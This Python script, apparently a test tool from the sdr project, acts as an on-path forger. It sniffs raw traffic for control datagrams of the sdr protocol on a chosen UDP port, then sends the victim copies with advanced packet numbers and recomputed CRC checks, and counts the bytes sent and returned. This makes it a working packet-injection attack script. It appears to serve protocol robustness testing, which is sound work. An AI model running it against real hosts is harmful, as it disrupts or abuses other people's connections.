#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
# Copyright (c) the sdr authors.
"""A router on the path that forges: forge.py VICTIM PORT COUNT

It listens (AF_PACKET) until it has seen a PACKET of a connection of the UDP port PORT: to that port
(VICTIM b, the server) or from it (a, the client).  Then it sends COUNT copies of what it sees, each
with a packet number ahead of the one seen and the check that belongs to it, to the same victim from
an address of its own, and takes the newest seen each time.  Prints what it has sent and what came
back to it, in bytes.  sdr-protocol(7) has the layout.
"""
import socket
import struct
import sys
import time
import zlib

BTH_CONTROL, CLASS_AT, PN_AT = 0x64, 20, 32
PACKET = b"\x5d\x02\x02\x04"  # magic, version, class, type
SEED = zlib.crc32(b"\xff" * 36)


def sealed(frame):
    body = frame[:-4]
    masked = bytearray(body)
    masked[4] = 0xFF
    return bytes(body) + struct.pack("<I", zlib.crc32(bytes(masked), SEED))


def seen(raw, victim, port):
    """(address of the victim, frame) of a control datagram of a connection, or None"""
    if len(raw) < 14 + 28 or raw[12:14] != b"\x08\x00" or raw[23] != 17:
        return None
    ip = raw[14:]
    udp = ip[(ip[0] & 15) * 4:]
    sport, dport, length = struct.unpack(">HHH", udp[:6])
    if (dport if victim == "b" else sport) != port:
        return None
    frame = udp[8:length]
    if len(frame) < PN_AT + 8 or frame[0] != BTH_CONTROL or sealed(frame) != frame:
        return None
    if frame[CLASS_AT:CLASS_AT + 4] != PACKET:
        return None
    return (socket.inet_ntoa(ip[16:20]), dport), frame


def main():
    victim, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.settimeout(5)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setblocking(False)
    to = frame = None
    packets = sent = got = 0
    fresh = 0
    until = time.monotonic() + 15
    while packets < count and time.monotonic() < until:
        if not frame or time.monotonic() > fresh + 0.01:
            while True:
                found = seen(tap.recv(65536), victim, port)
                if found:
                    break
            to, frame = found
            ahead, fresh = 1, time.monotonic()
        pn = struct.unpack_from("<I", frame, PN_AT)[0]
        copy = bytearray(frame)
        struct.pack_into("<I", copy, PN_AT, (pn + ahead) & 0xFFFFFFFF)
        ahead += 1 + packets % 64 * 16
        try:
            sent += out.sendto(sealed(copy), to)
            packets += 1
        except BlockingIOError:
            pass
        try:
            while True:
                got += len(out.recv(65536))
        except (BlockingIOError, ConnectionRefusedError):
            pass
    time.sleep(0.3)
    try:
        while True:
            got += len(out.recv(65536))
    except (BlockingIOError, ConnectionRefusedError):
        pass
    print(f"forger: packets={packets} sent={sent} got={got}")


main()
